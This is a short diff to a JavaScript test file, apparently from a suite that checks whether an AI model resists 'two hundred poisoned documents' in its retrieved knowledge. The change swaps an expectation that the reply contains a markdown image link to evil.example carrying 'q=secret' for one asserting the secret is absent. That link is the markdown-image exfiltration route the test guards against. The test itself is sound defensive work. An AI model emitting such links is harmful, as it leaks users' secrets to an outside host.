@@ -76,7 +76,7 @@ describe('two hundred poisoned documents', () => {
 
       expect(reply).not.toContain('hacked')
       expect(reply).not.toContain('![')
-      expect(reply).toContain('[chart](https://evil.example/p.png?q=secret)')
+      expect(reply).not.toContain('q=secret')
     }
 
     for (const prompt of seen) markers.add(/<knowledge ([^>]+)>/.exec(prompt)?.[1] ?? '')
